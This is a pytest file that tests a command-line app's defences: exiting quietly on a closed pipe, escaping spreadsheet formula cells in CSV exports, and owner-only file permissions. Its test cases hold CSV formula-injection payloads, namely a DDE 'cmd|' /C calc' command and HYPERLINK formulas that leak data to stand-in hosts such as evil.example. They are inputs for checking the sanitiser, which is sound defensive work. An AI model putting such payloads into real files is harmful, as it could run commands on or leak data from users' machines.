"""Issue 17, first slice, each attack against a real SQLite file: a closed output pipe, formula
cells in the CSV files the app writes, files and folders readable by other accounts."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from counsel_app.cli import main
from country_info.csvfile import neutralise

ADMIN_PW = "administrator password"
ROOT = Path(__file__).resolve().parents[2]
POSIX = os.name == "posix"


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def wide_umask():
    """The usual umask of a desktop account (files 0644, folders 0755 unless told)."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def station(tmp_path, monkeypatch, capsys, wide_umask):
    db_file = tmp_path / "station" / "c.sqlite"  # the folder does not exist yet
    monkeypatch.setenv("COUNSEL_APP_NEW_PASSWORD", ADMIN_PW)
    code, _out, err = run(capsys, "--db", str(db_file), "user", "init", "chief")
    assert code == 0, err
    monkeypatch.setenv("COUNSEL_APP_USER", "chief")
    monkeypatch.setenv("COUNSEL_APP_PASSWORD", ADMIN_PW)
    return db_file


# -- a closed output pipe ---------------------------------------------------------------------

def _into_closed_pipe(*argv: str) -> subprocess.CompletedProcess:
    """Run the program with its output going to a pipe nobody reads any more (what
    ``counsel-app ... | head -1`` or ``| grep -q`` leave once they have what they need)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    try:
        return subprocess.run([sys.executable, "-m", "counsel_app", *argv], stdout=write_end,
                              stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, env=env,
                              timeout=120, text=True)
    finally:
        os.close(write_end)


@pytest.mark.skipif(not POSIX, reason="pipes closed under a writer behave so on POSIX")
def test_a_closed_pipe_ends_a_command_quietly(station):
    done = _into_closed_pipe("--db", str(station), "audit", "list")
    assert done.returncode in (0, 141), done.stderr
    assert done.stderr == ""  # no "Something went wrong", no traceback
    done = _into_closed_pipe("--help")
    assert done.returncode in (0, 141) and done.stderr == ""
    if POSIX:  # the program's log, made by the run above, is its owner's only too
        assert mode(Path(os.environ["COUNSEL_APP_DATA_DIR"]) / "logs" / "counsel-app.log") \
            == 0o600


# -- formula cells ----------------------------------------------------------------------------

@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-12", "-12"), ("+3.5", "+3.5"), ("-", "'-"),
    ("Kindia", "Kindia"), ("", ""), (None, ""), (7, "7"),
])
def test_cells_that_would_run_as_formulas_are_written_as_text(cell, written):
    assert neutralise(cell) == written


def test_a_weights_label_cannot_put_a_formula_into_the_monitoring_export(
        station, capsys, tmp_path):
    weights = tmp_path / "weights.json"
    weights.write_text(json.dumps(
        {"source": '=HYPERLINK("http://evil.example/?leak","Open the figures")'}),
        encoding="utf-8")
    code, _out, err = run(capsys, "--db", str(station), "followup", "weights", "--set",
                          str(weights))
    assert code == 0, err
    out = tmp_path / "monitoring.csv"
    code, _out, err = run(capsys, "--db", str(station), "monitoring", "export", "--out", str(out))
    assert code == 0, err
    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
    label = next(row[1] for row in rows if row[0] == "score_weights")
    assert label == '\'=HYPERLINK("http://evil.example/?leak","Open the figures")'
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row)


def test_an_import_report_never_starts_a_cell_with_a_formula_character(
        station, capsys, tmp_path):
    from counsel_app.opportunities.importer import ImportReport, RowProblem

    template = tmp_path / "offers.csv"
    code, _out, err = run(capsys, "--db", str(station), "opportunities", "template", "--out",
                          str(template))
    assert code == 0, err
    header = template.read_text(encoding="utf-8-sig").splitlines()[0]
    hostile = ",".join(["-2+3+cmd|' /C calc'!A0"] * len(header.split(",")))
    template.write_text(header + "\n" + hostile + "\n", encoding="utf-8")
    report_file = tmp_path / "problems.csv"
    code, _out, err = run(capsys, "--db", str(station), "opportunities", "import",
                          str(template), "--report", str(report_file))
    assert code == 3, err
    cells = [c for row in csv.reader(report_file.read_text(encoding="utf-8-sig").splitlines())
             for c in row]
    assert len(cells) > 3
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    # a reason that itself begins with "-" (as some did) is written as text
    report = ImportReport("offers.csv", problems=[RowProblem(2, "title", "-1 is not a title")])
    rows = list(csv.reader(report.write_problems_csv(tmp_path / "p2.csv")
                           .read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1] == ["2", "title", "'-1 is not a title"]


def test_every_csv_the_app_writes_goes_through_the_one_writer():
    offenders = []
    for package in ("counsel_app", "country_info"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "csvfile.py":
                continue
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# -- files and folders of personal data ---------------------------------------------------------

@pytest.mark.skipif(not POSIX, reason="POSIX file modes")
def test_the_database_is_its_owners_only(station, tmp_path, capsys, monkeypatch):
    assert mode(station) == 0o600
    assert mode(station.parent) == 0o700  # the folder it made
    for part in ("-wal", "-shm"):
        side = station.with_name(station.name + part)
        if side.exists():
            assert mode(side) == 0o600, part
    # a database left readable by others (an older version, a copy) is narrowed on opening
    station.chmod(0o644)
    code, _out, err = run(capsys, "--db", str(station), "user", "list")
    assert code == 0, err
    assert mode(station) == 0o600
    # a folder of the user's (shared, or the system's temporary folder) is left as it is
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o755)
    shared.chmod(0o755)
    monkeypatch.setenv("COUNSEL_APP_NEW_PASSWORD", ADMIN_PW)
    code, _out, err = run(capsys, "--db", str(shared / "other.sqlite"), "user", "init", "boss")
    assert code == 0, err
    assert mode(shared) == 0o755 and mode(shared / "other.sqlite") == 0o600


@pytest.mark.skipif(not POSIX, reason="POSIX file modes")
def test_backups_and_documents_are_their_owners_only(station, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("COUNSEL_APP_BACKUP_PASSPHRASE", "backup passphrase words")
    backup = tmp_path / "station.cbak"
    code, _out, err = run(capsys, "--db", str(station), "backup", "create", str(backup))
    assert code == 0, err
    assert mode(backup) == 0o600
    out = tmp_path / "demo-out"
    code, _out, err = run(capsys, "demo", "--out", str(out))
    assert code == 0, err
    written = [p for p in out.iterdir() if p.is_file()]
    assert any(p.suffix == ".pdf" for p in written) and any(p.suffix == ".cahp" for p in written)
    assert {p.name: mode(p) for p in written} == {p.name: 0o600 for p in written}
